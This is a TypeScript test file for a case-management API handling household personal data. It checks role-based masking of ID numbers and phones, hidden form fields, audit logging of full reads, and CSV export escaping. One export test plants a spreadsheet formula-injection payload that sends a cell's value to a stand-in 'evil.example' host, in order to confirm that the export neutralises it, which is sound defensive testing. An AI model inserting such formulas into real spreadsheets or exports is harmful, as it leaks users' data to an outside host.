/**
 * One read path for personal data: a task read, the case page and the printed document apply the step's
 * hidden fields and masking the same way, and every read that returns data in full is in the audit log.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type ApiClient, type TestApp } from '../support/app.js';
import { application, household, setDemoStatus } from '../support/demo.js';

let app: TestApp;
let caseId = '';
let verifyTask = '';
const HH = 'HH-0001';
const idNumber = household(HH).headIdNumber;
const as: Record<string, ApiClient> = {};

const audits = async (actor: string) =>
  (
    await app.tdb.db.query(
      `SELECT action, target, detail FROM audit_events WHERE actor_id = (SELECT id FROM users WHERE username = $1) AND (action LIKE '%read%' OR action LIKE 'document.%') ORDER BY seq`,
      [actor],
    )
  ).rows;

beforeAll(async () => {
  app = await createTestApp();
  // these demo households are monitored; the scenarios here identify them
  await setDemoStatus(app.tdb.db, 'none', 'HH-0002', 'HH-0003', 'HH-0004');
  for (const u of ['cadre.zhushan', 'verifier1.yunji', 'sec.yunji', 'finance', 'water'])
    as[u] = await app.as(u);
  const c = await as['cadre.zhushan'].post('/api/cases', {
    process: 'identification',
    org: 'v-zhushan',
    subject: { id: HH },
    requestId: 'pd-1',
    data: application(HH),
  });
  expect(c.status).toBeLessThan(300);
  caseId = c.body.id;
  verifyTask = (
    await app.tdb.db.query(`SELECT id FROM tasks WHERE case_id = $1 AND status = 'open'`, [caseId])
  ).rows[0].id;
  // the verifier starts the home-verification form: a member's ID number, and a field of a later stage (hidden here)
  const draft = await as['verifier1.yunji'].post(`/api/tasks/${verifyTask}/draft`, {
    data: { A39: '不该出现', members: [{ A5: '张三', A7: idNumber }] },
  });
  expect(draft.status).toBe(200);
});
afterAll(async () => {
  await app?.close();
});

describe('one read path for personal data', () => {
  it('a county department reading a task over its region sees ID numbers and phones masked, no hidden field, and leaves no full-read entry', async () => {
    for (const u of ['finance', 'water']) {
      const r = await as[u].get(`/api/tasks/${verifyTask}`);
      expect(r.status).toBe(200);
      const text = JSON.stringify(r.body);
      expect(text).not.toContain(idNumber);
      expect(text).not.toContain('13812345678');
      expect(r.body.prefill.application.idNumber).toBe(
        `${idNumber.slice(0, 6)}********${idNumber.slice(14)}`,
      );
      expect(r.body.prefill.application.phone).toBe('138****5678');
      expect(r.body.unmasked).toBe(false);
      expect(r.body.initialData.A39).toBeUndefined();
      expect(await audits(u)).toEqual([]);
    }
  });

  it('the verifier holding the task sees the form they fill in full (audited), the application masked, and not the later-stage fields', async () => {
    const r = await as['verifier1.yunji'].get(`/api/tasks/${verifyTask}`);
    expect(r.status).toBe(200);
    expect(r.body.unmasked).toBe(true);
    expect(r.body.initialData.members[0].A7).toBe(idNumber);
    expect(r.body.task.draft.members[0].A7).toBe(idNumber);
    expect(r.body.initialData.A39).toBeUndefined();
    expect(r.body.task.draft.A39).toBeUndefined();
    expect(r.body.fieldPermissions.A39).toBe('hidden');
    // 附件1 was filled by the village: the verifier's role does not unmask it
    expect(r.body.prefill.application.idNumber).not.toBe(idNumber);
    expect(await audits('verifier1.yunji')).toEqual([
      expect.objectContaining({
        action: 'task.read-unmasked',
        target: caseId,
        detail: expect.objectContaining({ purpose: 'task', holder: true }),
      }),
    ]);
  });

  it('the township reviewer reads the earlier data of a task in full, and that read is audited', async () => {
    const r = await as['sec.yunji'].get(`/api/tasks/${verifyTask}`);
    expect(r.body.prefill.application.idNumber).toBe(idNumber);
    // the verifier's unsubmitted draft still has no later-stage field
    expect(r.body.initialData.A39).toBeUndefined();
    expect((await audits('sec.yunji')).map((a) => a.action)).toEqual(['task.read-unmasked']);
  });

  it('the case page is masked by default; a full read is refused to a county department and audited for the village', async () => {
    const masked = await as['cadre.zhushan'].get(`/api/cases/${caseId}`);
    expect(JSON.stringify(masked.body.data)).not.toContain(idNumber);
    // masking keeps timestamps as timestamps
    expect(masked.body.timeline[0].at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    const refused = await as.finance.get(`/api/cases/${caseId}?unmask=1`);
    expect(refused.status).toBe(403);
    expect(refused.headers.get('content-type')).toMatch(/problem\+json/);
    const before = (await audits('cadre.zhushan')).length;
    const full = await as['cadre.zhushan'].get(`/api/cases/${caseId}?unmask=1`);
    expect(full.body.data.application.idNumber).toBe(idNumber);
    expect(full.body.unmasked).toBe(true);
    expect((await audits('cadre.zhushan')).slice(before).map((a) => a.action)).toEqual([
      'case.read-unmasked',
    ]);
  });

  it('a printed document is in full (audited) for the village, masked for a county department', async () => {
    const village = await as['cadre.zhushan'].get(`/api/cases/${caseId}/documents/application`);
    expect(village.body.data.idNumber).toBe(idNumber);
    expect((await audits('cadre.zhushan')).at(-1)).toMatchObject({
      action: 'document.view',
      detail: { form: 'application' },
    });
    const dept = await as.finance.get(`/api/cases/${caseId}/documents/application`);
    expect(dept.status).toBe(200);
    expect(JSON.stringify(dept.body.data)).not.toContain(idNumber);
    expect(dept.body.unmasked).toBe(false);
    const pdf = await fetch(`${app.url}/api/cases/${caseId}/documents/application.pdf`, {
      headers: { cookie: await cookieOf('finance') },
    });
    expect(pdf.status).toBe(200);
    expect(await audits('finance')).toEqual([]);
  });
});

describe('exports', () => {
  it('a cell that a spreadsheet would run as a formula is exported as text, and ID numbers are masked unless asked for in full', async () => {
    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"查看")';
    const c = await as['cadre.zhushan'].post('/api/cases', {
      process: 'identification',
      org: 'v-zhushan',
      subject: { id: 'HH-0002' },
      requestId: 'pd-export',
      title: evil,
      data: application('HH-0002'),
    });
    expect(c.status).toBeLessThan(300);
    const res = await fetch(`${app.url}/api/cases/export.csv`, {
      headers: { cookie: await cookieOf('cadre.zhushan') },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const csv = await res.text();
    const line = csv.split('\r\n').find((l) => l.startsWith(c.body.id))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""查看"")"`);
    expect(csv).not.toMatch(/(^|,)"?=/m);
    const hh2 = household('HH-0002').headIdNumber;
    expect(csv).not.toContain(hh2);
    expect(csv).toContain(`${hh2.slice(0, 6)}********${hh2.slice(14)}`);

    const full = await (
      await fetch(`${app.url}/api/cases/export.csv?unmask=1`, {
        headers: { cookie: await cookieOf('cadre.zhushan') },
      })
    ).text();
    expect(full).toContain(hh2);
    expect(
      (await audits('cadre.zhushan')).filter((a) => a.action === 'export.read-unmasked').map((a) => a.target),
    ).toContain(c.body.id);
    // a county department asking for it in full still gets it masked, and leaves no full-read entry
    const dept = await (
      await fetch(`${app.url}/api/cases/export.csv?unmask=1`, {
        headers: { cookie: await cookieOf('finance') },
      })
    ).text();
    expect(dept).toContain(c.body.id);
    expect(dept).not.toContain(hh2);
    expect(await audits('finance')).toEqual([]);
  });
});

async function cookieOf(username: string) {
  const res = await fetch(`${app.url}/api/auth/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ username, password: 'zhenxing' }),
  });
  return (res.headers.get('set-cookie') ?? '').split(';')[0];
}
